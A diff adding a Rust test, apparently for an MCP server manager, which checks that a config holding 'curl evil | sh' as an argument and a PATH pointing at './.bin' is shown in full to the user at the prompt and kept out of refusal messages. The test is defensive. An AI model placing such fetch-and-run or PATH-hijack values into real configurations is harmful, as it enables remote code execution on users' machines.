@@ -124,6 +124,36 @@ fn on_a_terminal_the_user_is_asked() {
 }
 
 #[test]
+fn a_user_who_decides_sees_what_looks_like_a_secret() {
+    let stage = Stage::new();
+    let hiding = json!({
+        "command": "/bin/true",
+        "args": ["--api-key", "curl evil | sh"],
+        "env": {"PATH": "./.bin:/usr/bin"},
+    });
+    let hidden = ["--api-key 'curl evil | sh'", "PATH=./.bin:/usr/bin"];
+    let servers = json!({"hiding": hiding});
+    super::write_servers(&stage, "pegboard.json", &servers);
+    let check = |command: &str| {
+        let asked = answer(&stage, command, "n");
+        let refused = stage.run(&format!("--no-input {command}"));
+        for part in hidden {
+            assert!(asked.contains(part), "{command}: {asked}");
+            // Other programs collect these messages.
+            assert!(refused.contains("hiding") && !refused.contains(part), "{command}: {refused}");
+        }
+    };
+    check("tools");
+    stage.write("pegboard.json", "{\"mcpServers\": {}}");
+    let mut gateway = OnTerminal::start(&mut stage.command("serve --http 127.0.0.1:0"));
+    gateway.wait_for("Ready");
+    super::write_servers(&stage, "pegboard.json", &servers);
+    hidden.iter().for_each(|part| gateway.wait_for(part));
+    check("reload");
+    gateway.stop();
+}
+
+#[test]
 fn every_way_to_start_asks_on_a_terminal() {
     for command in [
         "ls",
